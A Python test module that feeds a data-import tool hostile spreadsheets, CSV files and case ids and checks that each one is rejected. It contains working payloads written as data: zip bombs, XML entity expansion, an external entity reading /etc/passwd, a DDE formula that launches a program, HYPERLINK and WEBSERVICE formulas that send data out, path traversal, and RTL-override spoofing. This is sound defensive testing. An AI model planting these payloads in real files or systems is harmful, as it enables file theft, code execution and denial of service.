"""Attacks by workbooks and tables: returned forms, tables of OGP, lists of kecamatan."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path
from typing import Any

from ogp_analysis.case import load_case
from ogp_analysis.errors import DataError, OgpAnalysisError
from ogp_analysis.forms import import_form, write_form
from ogp_analysis.newcase.listed import read_list
from ogp_analysis.sources.ogp import read_commitments, read_process
from ogp_analysis.sources.ogp.editions import editions

from .corpus import FORM, NEW, OGP, Call, attack
from .yard import Yard, as_csv
from .zips import Parts, lying, zipped

# returned forms ---------------------------------------------------------------------------------------------------


@lru_cache
def _form(shared: Path, case: Path) -> bytes:
    return write_form(load_case(case), shared / "form.xlsx", "en").read_bytes()


def _parts(yard: Yard, case: Path) -> Parts:
    original = yard.shared / "for-forms" / "semarang"
    if not original.exists():
        import shutil

        shutil.copytree(case, original)
    with zipfile.ZipFile(io.BytesIO(_form(yard.shared, original))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def form(
    key: str,
    breaks: str,
    change: Callable[[Parts], bytes],
    *words: str,
    name: str = "form.xlsx",
    **bounds: Any,
) -> None:
    """The parts of a form changed."""

    @attack(key, FORM, breaks, OgpAnalysisError, *words, **bounds)
    def build(yard: Yard) -> Call:
        case = yard.case()
        path = yard.write(name, change(_parts(yard, case)))
        return lambda: import_form(path, case)


def with_part(name: str, change: Callable[[bytes], bytes]) -> Callable[[Parts], bytes]:
    return lambda parts: zipped(parts | {name: change(parts.get(name, b""))})


SHEET = "xl/worksheets/sheet1.xml"


def shared_text(old: str, new: str) -> Callable[[Parts], bytes]:
    """One text of the form replaced, wherever it stands."""

    def change(parts: Parts) -> bytes:
        found = {
            name: data.replace(old.encode(), new.encode()) for name, data in parts.items() if name.endswith(".xml")
        }
        assert any(found[name] != parts[name] for name in found), f"{old} is not in the form"
        return zipped(parts | found)

    return change


form(
    "form-bomb",
    "a workbook that unpacks to 100 MB",
    lambda p: zipped(p | {"xl/media/image1.png": bytes(100 * 2**20)}),
    "would unpack to",
)
form(
    "form-bomb-lies",
    "a workbook that unpacks to more than it declares",
    lambda p: lying(zipped(p | {"xl/media/image1.png": bytes(45 * 2**20)}), "xl/media/image1.png", 10),
    "damaged",
)
form(
    "form-parts",
    "a workbook of 3,000 parts",
    lambda p: zipped(p | {f"xl/x{n}.bin": b"" for n in range(3_000)}),
    "parts; no form does",
)
form(
    "form-entities",
    "entities that stand for a thousand million characters",
    with_part("xl/workbook.xml", lambda d: b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>' + d),
    "declares a document type",
)
form(
    "form-external",
    "an entity that reads a file of the machine",
    with_part("xl/sharedStrings.xml", lambda d: b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + d),
    "declares a document type",
)
form("form-macro", "a macro", lambda p: zipped(p | {"xl/vbaProject.bin": b"x"}), "holds macros")
form(
    "form-macro-name", "a workbook with the name of one that has macros", zipped, "holds macros", name="form.xlsm"
)
form("form-cut", "a workbook cut off in the middle", lambda p: zipped(p)[:20_000], "damaged")
form("form-text", "a text named as a workbook", lambda p: b"commitment_key,date\n", "no workbook")
form("form-empty", "a file of no bytes", lambda p: b"", "empty (0 bytes)")
form(
    "form-ole",
    "a workbook of the old kind",
    lambda p: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "old kind (.xls)",
)
form(
    "form-ods",
    "a table of another program",
    lambda p: zipped({"content.xml": b"<office/>"}),
    "not a workbook of Excel",
)
form(
    "form-stamp",
    "a form of another case",
    shared_text("<t>semarang</t>", "<t>banggai</t>"),
    "form of the case 'banggai'",
)
form(
    "form-xml",
    "a sheet cut off within its XML",
    lambda p: zipped(p | {SHEET: p[SHEET][:-400]}),
    "cannot be read as a workbook",
    foreign=True,
)


def cell_form(key: str, breaks: str, column: str, value: str, *words: str, **bounds: Any) -> None:
    """A form with a bad cell."""

    @attack(key, FORM, breaks, DataError, "sheet 'Progress', row 6", column, *words, **bounds)
    def build(yard: Yard) -> Call:
        case = yard.case()
        path = changed_form(yard, case, column, value)
        return lambda: import_form(path, case)


def changed_form(yard: Yard, case: Path, column: str = "finding_en", value: str = "Another finding") -> Path:
    """A form with one cell of the sheet of progress changed, as a spreadsheet program stores it."""
    from openpyxl import load_workbook

    path = yard.write("form.xlsx", zipped(_parts(yard, case)))
    book = load_workbook(path)
    sheet = next(each for each in book.worksheets if each.title == "Progress")
    at = next(each.column for each in sheet[2] if str(each.value).partition("@")[0] == column)
    sheet.cell(6, at)._value = value  # openpyxl would refuse some of them
    sheet.cell(6, at).data_type = "f" if value.startswith("=") else "s"
    book.save(path)
    return path


cell_form(
    "form-formula", "a formula that starts a program", "finding_en", "=cmd|' /C calc'!A0", "a formula is not read"
)
cell_form(
    "form-hyperlink",
    "a formula that sends what stands beside it",
    "finding_en",
    '=HYPERLINK("http://x/"&A1)',
    "a formula is not read",
)
cell_form("form-rtl", "a finding written backwards", "finding_en", "Budget \u202egnp.exe", "U+202E")
cell_form("form-kecamatan", "a kecamatan of another city", "code_bps", "3322010", "3322010")
cell_form("form-source", "a source that is not listed", "source_id", "gosip-01", "gosip-01")
cell_form("form-day", "30 February", "date", "2023-02-30", "2023-02-30")


@attack(
    "form-backup-link",
    FORM,
    "a link in the place of the folder of backups",
    OgpAnalysisError,
    ".backup",
    "is a link",
)
def _(yard: Yard) -> Call:
    case = yard.case()
    path = changed_form(yard, case)
    (yard.folder / "elsewhere").mkdir()
    (case / ".backup").symlink_to(yard.folder / "elsewhere")
    return lambda: import_form(path, case)


@attack("form-read-only", FORM, "a case that may not be written", OgpAnalysisError, "cannot be written")
def _(yard: Yard) -> Call:
    from unittest import mock

    from ogp_analysis.forms import apply

    case = yard.case()
    path = changed_form(yard, case)
    # the superuser may write everything, so the refusal is played
    yard.patches.append(mock.patch.object(apply.os, "access", return_value=False))
    return lambda: import_form(path, case)


@attack("form-full-disk", FORM, "a disk that is full when the backup is written", None, "4", "No space left")
def _(yard: Yard) -> Call:
    import errno
    from unittest import mock

    from ogp_analysis.forms import apply

    case = yard.case()
    path = changed_form(yard, case)

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    yard.patches.append(mock.patch.object(apply.shutil, "copy2", full))
    return lambda: said_by(["import", str(path), "--case", str(case)])


def said_by(arguments: list[str]) -> str:
    """The exit code of a command and what it said."""
    import contextlib

    from ogp_analysis.cli import main

    told = io.StringIO()
    with contextlib.redirect_stderr(told), contextlib.redirect_stdout(told):
        code = main(arguments)
    return f"exit code {code}: {told.getvalue()}"


# tables of OGP ----------------------------------------------------------------------------------------------------

EDITION = "2016"
#: What the edition prints above each field.
COLUMNS = editions()[EDITION].fields


def ogp_rows(count: int = 5, **cells: str) -> list[dict[str, str]]:
    columns = COLUMNS
    row = dict.fromkeys(editions()[EDITION].columns.values(), "NR")
    row |= {columns["member"]: "Ruritania", columns["plan_number"]: "1", columns["title"]: "Publish the budget"}
    return [row | {columns["title"]: f"Publish the budget {n}"} | (cells if n == 1 else {}) for n in range(count)]


def ogp_text(mark: str = ",", count: int = 5, **cells: str) -> str:
    found = ogp_rows(count, **cells)
    return as_csv(list(found[0]), found, mark)


def ogp(
    key: str,
    breaks: str,
    data: Callable[[], bytes | str],
    *words: str,
    name: str = "table.csv",
    error: type[OgpAnalysisError] | None = OgpAnalysisError,
    show: Callable[[Any], object] = str,
    **bounds: Any,
) -> None:
    """A table given as one of OGP."""

    @attack(key, OGP, breaks, error, *words, **bounds)
    def build(yard: Yard) -> Call:
        path = yard.write(name, data())
        return lambda: show(read_commitments(path))


def listed(
    key: str, breaks: str, data: Callable[[], bytes | str], show: Callable[[Any], object], *words: str
) -> None:
    """One that is read; what is bad in it is shown."""
    ogp(key, breaks, data, *words, error=None, show=show)


def xlsx(sheet: str, more: Parts | None = None) -> bytes:
    """A workbook with one sheet, its XML written by hand."""
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    with zipfile.ZipFile(out) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = f'<worksheet xmlns="{main}"><sheetData>{sheet}</sheetData></worksheet>'
    return zipped(parts | {"xl/worksheets/sheet1.xml": body.encode()} | (more or {}))


FAR = "<row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"
ogp(
    "ogp-far",
    "a cell at the far corner of the sheet",
    lambda: xlsx(FAR.replace("'", '"')),
    "far from any table",
    name="t.xlsx",
)
ogp(
    "ogp-far-quoted",
    "the same with the other quotation marks",
    lambda: xlsx(FAR),
    "far from any table",
    name="t.xlsx",
)
ogp(
    "ogp-far-prefix",
    "the same with a prefix before each name",
    lambda: xlsx(
        FAR.replace("<row", '<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"')
        .replace("</row", "</x:row")
        .replace("<c ", "<x:c ")
        .replace("</c>", "</x:c>")
    ),
    "far from any table",
    name="t.xlsx",
)
ogp(
    "ogp-wide-and-long",
    "two cells that span 200 million",
    lambda: xlsx('<row r="1"><c r="ZZ1"><v>1</v></c></row><row r="290000"><c r="A290000"><v>1</v></c></row>'),
    "far from any table",
    name="t.xlsx",
)
ogp(
    "ogp-bomb",
    "a workbook that unpacks to 250 MB",
    lambda: xlsx("", {"xl/media/a.png": bytes(250_000_000)}),
    "unpacks to 250 MB",
    name="t.xlsx",
    seconds=10,
)
ogp(
    "ogp-bomb-lies",
    "a workbook that unpacks to more than it declares",
    lambda: lying(xlsx("", {"xl/sharedStrings.xml": b"<sst>" + bytes(150_000_000)}), "xl/sharedStrings.xml", 10),
    "damaged",
    name="t.xlsx",
    foreign=True,
)
ogp(
    "ogp-error-cell",
    "a cell with an error",
    lambda: xlsx('<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>'),
    "an error in 1 cells: A1",
    name="t.xlsx",
)
ogp(
    "ogp-formula",
    "a formula that was never computed",
    lambda: xlsx('<row r="1"><c r="A1"><f>WEBSERVICE("http://x")</f></c></row>'),
    "never computed",
    "A1",
    name="t.xlsx",
)
ogp(
    "ogp-encrypted",
    "a workbook behind a password",
    lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "locked with a password",
    name="t.xlsx",
)
ogp("ogp-gzip", "a table packed with gzip", lambda: b"\x1f\x8b\x08\x00" + bytes(50), "compressed")
ogp(
    "ogp-zip",
    "an archive that is no workbook",
    lambda: zipped({"a.csv": b"x"}),
    "an archive and no workbook",
    name="t.zip",
)
ogp("ogp-text-as-xlsx", "a text with the name of a workbook", lambda: "a,b\n", "name of a workbook", name="t.xlsx")
ogp(
    "ogp-html",
    "a page that says the download failed",
    lambda: "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "no header of a table that OGP published",
)
ogp("ogp-nul", "NUL bytes", lambda: ogp_text().replace("NR", "N\0R"), "UTF-8", error=DataError)
ogp(
    "ogp-open-quote",
    "a quotation mark that is never closed",
    lambda: ogp_text().replace("Publish the budget 2", '"Publish'),
    "quotation marks",
    error=DataError,
)
ogp(
    "ogp-cell-10-mb",
    "a cell of 10 MB",
    lambda: ogp_text(**{COLUMNS["title"]: "x" * 10_000_000}),
    "131,072",
    error=DataError,
)
ogp(
    "ogp-other",
    "a table of something else",
    lambda: "kecamatan;penduduk\nMijen;76037\n",
    "no header of a table that OGP published",
)
ogp("ogp-empty", "a file of no bytes", lambda: b"", "no header of a table that OGP published")
ogp(
    "ogp-header-only",
    "a header and nothing below it",
    lambda: ogp_text(count=5).split("\n")[0] + "\n",
    "table.csv",
    error=DataError,
)
ogp(
    "ogp-ragged",
    "a row with a cell too many",
    lambda: ogp_text() + "," * 200 + "x\n",
    "table.csv",
    error=DataError,
)
ogp(
    "ogp-columns-50000",
    "50,000 further columns",
    lambda: ",".join(f"c{n}" for n in range(50_000)) + "\n" + "," * 49_999,
    "no header of a table that OGP published",
)

RATING = next(iter(editions()[EDITION].ratings.values())).text
listed(
    "ogp-label",
    "a rating that is no label",
    lambda: ogp_text(**{RATING: "Excellent"}),
    lambda t: t.unreadable.to_csv(index=False),
    "Excellent",
    RATING,
)
listed(
    "ogp-duplicate",
    "a row that comes twice",
    lambda: ogp_text() + ogp_text().split("\n")[1] + "\n",
    lambda t: t.duplicates.to_csv(index=False),
    "7,2",
)
listed(
    "ogp-total",
    "a total below the table",
    lambda: ogp_text() + "Total," + "," * (len(ogp_rows()[0]) - 2) + "\n",
    lambda t: t.left_out.to_csv(index=False),
    "7",
)
listed(
    "ogp-plan-number",
    "an infinite number of a plan",
    lambda: ogp_text(**{COLUMNS["plan_number"]: "inf"}),
    lambda t: t.unreadable.to_csv(index=False),
    "inf",
)
listed(
    "ogp-rtl",
    "a title written backwards",
    lambda: ogp_text(**{COLUMNS["title"]: "Budget \u202egnp.exe"}),
    lambda t: ascii(t.commitments["title"].tolist()[1]),
    "Budget gnp.exe",
)
listed(
    "ogp-personal",
    "a column of telephone numbers",
    lambda: as_csv(
        [*ogp_rows()[0], "Contact Phone"], [row | {"Contact Phone": "0812-3456-7890"} for row in ogp_rows()]
    ),
    lambda t: f"dropped: {t.personal_columns}; kept: {list(t.other)}",
    "dropped: ('Contact Phone',); kept: [",
)
listed(
    "ogp-windows",
    "a table in the encoding of Windows",
    lambda: ogp_text(**{COLUMNS["title"]: "Presupuesto de Bogotá"}).encode("cp1252"),
    lambda t: t.commitments["title"].tolist()[1],
    "Bogotá",
)


@attack(
    "ogp-process",
    OGP,
    "the table of commitments given as that of processes",
    OgpAnalysisError,
    "is: Commitments table",
)
def _(yard: Yard) -> Call:
    path = yard.write("table.csv", ogp_text())
    return lambda: read_process(path)


# lists for new-case -----------------------------------------------------------------------------------------------

HEADER = "kode,nama,bujur,lintang\n"
LIST = "99.71.01,Utara,110.40,-7.00\n99.71.02,Selatan,110.42,-7.05\n99.71.03,Timur,110.45,-7.02\n99.71.10,Barat,110.36,-7.03\n"


def new(
    key: str,
    breaks: str,
    data: Callable[[], bytes | str],
    *words: str,
    name: str = "list.csv",
    error: type[OgpAnalysisError] = DataError,
    **bounds: Any,
) -> None:
    @attack(key, NEW, breaks, error, *words, **bounds)
    def build(yard: Yard) -> Call:
        path = yard.write(name, data())
        return lambda: read_list(path, name="Kota Contoh", publisher="BPS", seen="2026-11-22")


new(
    "list-number",
    "a code that a spreadsheet made a number of",
    lambda: HEADER + LIST.replace("99.71.01", "997101.0"),
    "row 2",
    "997101.0",
)
new(
    "list-zero",
    "a code that lost its zeros",
    lambda: HEADER + LIST.replace("99.71.01", "99.71.1"),
    "row 2",
    "a zero was lost",
)
new(
    "list-two-places",
    "a kecamatan of another regency",
    lambda: HEADER + LIST.replace("99.71.10", "99.72.10"),
    "row 5",
    "99.72.10",
    "99.71",
)
new(
    "list-twice",
    "a code that comes twice",
    lambda: HEADER + LIST.replace("99.71.02", "99.71.01"),
    "row 3",
    "99.71.01",
)
new(
    "list-swapped",
    "latitude and longitude exchanged",
    lambda: "kode,nama,lintang,bujur\n" + LIST,
    "latitude",
    "110.40",
)
new("list-infinite", "an infinite longitude", lambda: HEADER + LIST.replace("110.40", "inf"), "row 2", "inf")
new(
    "list-total",
    "a row of totals",
    lambda: HEADER + LIST + "99.71.99,Jumlah,110.4,-7.01\n",
    "row 6",
    "Jumlah",
    "total",
)
new(
    "list-rtl",
    "a name written backwards",
    lambda: HEADER + LIST.replace("Utara", "\u202earatU"),
    "row 2",
    "U+202E",
)
new(
    "list-cyrillic",
    "a Cyrillic letter in a Latin name",
    lambda: HEADER + LIST.replace("Timur", "\u0422imur"),
    "row 4",
    "U+0422",
)
new(
    "list-latin-1",
    "a name in Latin-1",
    lambda: (HEADER + LIST.replace("Utara", "Utár")).encode("latin-1"),
    "UTF-8",
)
new(
    "list-cell-10-mb",
    "a cell of 10 MB",
    lambda: HEADER + LIST.replace("Utara", "x" * 10_000_000),
    "row 2",
    foreign=True,
)
new(
    "list-open-quote",
    "a quotation mark that is never closed",
    lambda: HEADER + LIST.replace("Utara", '"Utara'),
    "row 2",
)
new("list-empty", "a file of no bytes", lambda: b"", "row 1", "empty")
new("list-no-code", "no column of codes", lambda: "nama\nUtara\n", "row 1", "kode")
new(
    "list-far",
    "a cell at the far corner of the sheet",
    lambda: xlsx(FAR),
    "far from any table",
    name="l.xlsx",
    error=OgpAnalysisError,
)
new(
    "list-not-xlsx",
    "a picture named as a workbook",
    lambda: b"\x89PNG\r\n\x1a\n" + bytes(100),
    "l.xlsx",
    name="l.xlsx",
    error=OgpAnalysisError,
    foreign=True,
)
new("list-pdf", "a PDF", lambda: b"%PDF-1.7\n", "neither CSV nor XLSX", name="l.pdf", error=OgpAnalysisError)


def new_id(key: str, breaks: str, text: str) -> None:
    from ogp_analysis.newcase.place import Place
    from ogp_analysis.newcase.scaffold import new_case

    @attack(key, NEW, breaks, OgpAnalysisError, "cannot be the id of a case")
    def build(yard: Yard) -> Call:
        into = yard.folder / "cases"
        return lambda: new_case(text, Place("Kota Contoh"), into=into)


new_id("id-out", "../ for the id of a case", "../../etc")
new_id("id-absolute", "an absolute path for the id of a case", "/tmp/evil")
new_id("id-device", "a name that Windows keeps for a device", "nul")
new_id("id-cyrillic", "a Cyrillic letter in the id of a case", "sem\u0430rang")
new_id("id-option", "an option of a command for the id of a case", "--force")


@attack("new-link", NEW, "a link where the case should be made", OgpAnalysisError, "exists already")
def _(yard: Yard) -> Call:
    from ogp_analysis.newcase.place import Place
    from ogp_analysis.newcase.scaffold import new_case

    into = yard.folder / "cases"
    into.mkdir()
    (into / "contoh").symlink_to("/etc")
    return lambda: new_case("contoh", Place("Kota Contoh"), into=into)


@attack("new-name-rtl", NEW, "the name of a place written backwards", OgpAnalysisError, "U+202E")
def _(yard: Yard) -> Call:
    from ogp_analysis.newcase.place import Place
    from ogp_analysis.newcase.scaffold import new_case

    into = yard.folder / "cases"
    return lambda: new_case("contoh", Place("Kota \u202ehotnoC"), into=into)
